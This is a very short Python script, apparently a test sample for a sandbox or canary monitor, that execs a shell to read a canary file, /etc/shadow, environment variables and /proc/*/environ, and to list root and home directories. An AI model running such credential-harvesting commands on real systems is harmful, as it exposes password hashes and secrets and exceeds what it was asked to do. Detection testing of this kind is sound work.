# Becomes a shell that looks around.
# control
import os
os.execv("/bin/sh", ["sh", "-c", "cat @CANARY@; cat /etc/shadow; env; id; ls -la / /root /home; cat /proc/*/environ"])
